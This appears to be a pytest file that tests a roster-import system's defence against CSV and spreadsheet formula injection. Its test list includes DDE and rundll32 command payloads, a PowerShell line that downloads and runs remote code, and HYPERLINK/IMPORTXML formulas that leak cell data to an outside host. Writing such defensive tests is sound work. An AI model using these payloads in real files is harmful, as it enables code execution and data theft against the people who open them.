"""Thirty cells that a spreadsheet would run, through CSV and workbooks: refused coming in, harmless going out."""

import csv
import io
from datetime import date

import pytest

from levels.rulebook import rulebook
from registry.issuing.lists.corrected import corrected, table_of
from registry.issuing.lists.roster import read_roster
from registry.reading.workbooks import Limits, sheets_of
from tests.workbook_files import row, workbook, written

METHODS = rulebook("2026-01-01").methods
TODAY = date(2026, 6, 1)

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A1",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("http://example.com?leak="&A1,"Se betyget")',
    '=IMPORTXML(CONCAT("http://example.com/?v=", A1:E9), "//a")',
    '=IMAGE("http://example.com/x.png")',
    '=WEBSERVICE("http://example.com")',
    "=IMPORTDATA(A1)",
    "=1+1",
    "=A1",
    "=",
    "+1+1",
    "+A1",
    "-A1",
    "-1+1",
    "- 2+3+cmd|' /C calc'!A0",
    "@A1",
    "@",
    "\t=1+1",
    "\t+cmd|' /C calc'!A0",
    "\r=1+1",
    "\uff1dcmd|' /C calc'!A0",
    "\uff0b1+1",
    "\uff0dA1",
    "\uff20SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "'=1+1",
    "=1+1,Anna",
]


def as_csv(*rows: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=";", quoting=csv.QUOTE_ALL).writerows(rows)
    return out.getvalue().encode()


def lists(header: str, cell: str) -> list[bytes]:
    rows = [["Namn", header], ["Anna Berg", cell]]
    return [as_csv(*rows), written(rows)]


COLUMNS = {
    "Namn": "name",
    "E-post": "email",
    "Arbetsgivare": "employer",
    "Anmärkning": "note",
    "ID-kontroll": "enrolment_method",
    "Telefon": "phone",
    "Född": "birth_date",
}


@pytest.mark.parametrize("formula", FORMULAS)
def test_it_is_refused_wherever_it_stands_and_goes_out_harmless(formula: str) -> None:
    rows = [[*COLUMNS, "Land"]]
    for at in range(len(COLUMNS)):
        rows.append([f"Anna Berg {'abcdefg'[at]}", *[""] * (len(COLUMNS) - 1), "SE"])
        rows[-1][at] = formula
    for data in (as_csv(*rows), written(rows)):
        roster = read_roster(data, methods=METHODS, on=TODAY)
        assert roster.rows == ()
        found = {number: [(fault.column, fault.code) for fault in faults] for number, faults in roster.faults.items()}
        assert found == {at: [(column, "formula")] for at, column in enumerate(COLUMNS.values(), 2)}
        table = table_of(data)
        assert table is not None
        assert_harmless(corrected(table, roster.faults, "sv"), ";")


def assert_harmless(data: bytes, delimiter: str) -> None:
    """As a program sees it that opens the file, and not as we read it."""
    if data.startswith(b"PK"):
        ((sheet,), _) = sheets_of(data, Limits(100, 60))
        cells = [cell for _, cells in sheet.rows for cell in cells]
    else:
        cells = [
            cell for line in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter) for cell in line
        ]
    assert cells
    for cell in cells:
        assert not cell.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", "+1", "@A1"])
def test_a_formula_that_computed_such_a_text_is_refused_too(formula: str) -> None:
    cell = f'<c r="A2" t="str"><f>CONCAT("=","x")</f><v>{formula}</v></c><c r="B2"><v>1</v></c>'
    data = workbook(row(1, "Namn", "Godkänd") + f'<row r="2">{cell}</row>')
    roster = read_roster(data, methods=METHODS, on=TODAY)
    assert [(fault.column, fault.code) for fault in roster.faults[2]] == [("name", "formula")]


def test_a_formula_counts_by_its_value_and_without_one_is_refused() -> None:
    cells = (
        '<c r="A{n}" t="str"><f>CONCAT(X1," ",Y1)</f><v>Anna Berg{n}</v></c><c r="B{n}"><f>SUM(C1:D1)</f>{value}</c>'
    )
    rows = "".join(
        f'<row r="{n}">{cells.format(n=n, value=value)}</row>' for n, value in ((2, "<v>480</v>"), (3, ""), (4, "<v/>"))
    )
    roster = read_roster(workbook(row(1, "Namn", "Närvarominuter") + rows), methods=METHODS, on=TODAY)
    # Kept as an empty text: what many formulas give where there is nothing to say.
    assert [(one.name, one.facts) for one in roster.rows] == [
        ("Anna Berg2", {"attended_minutes": 480}),
        ("Anna Berg4", {}),
    ]
    assert [fault.code for fault in roster.faults[3]] == ["formula"]


@pytest.mark.parametrize("phone", ["+46 70 123 45 67", "+4670123456", "+47 912 34 567"])
def test_a_telephone_number_is_no_formula_and_comes_back_as_it_was(phone: str) -> None:
    for data in lists("Telefon", phone):
        (one,) = read_roster(data, methods=METHODS, on=TODAY).rows
        assert one.phone == phone
        table = table_of(data)
        assert table is not None
        back = corrected(table, {}, "sv")
        assert read_roster(back, methods=METHODS, on=TODAY).rows == (one,)
        assert (f"'{phone}".encode() in back) == (not data.startswith(b"PK"))


def test_a_number_below_zero_is_told_as_a_number() -> None:
    for data in lists("Närvarominuter", "-5"):
        assert [fault.code for fault in read_roster(data, methods=METHODS, on=TODAY).faults[2]] == ["negative"]
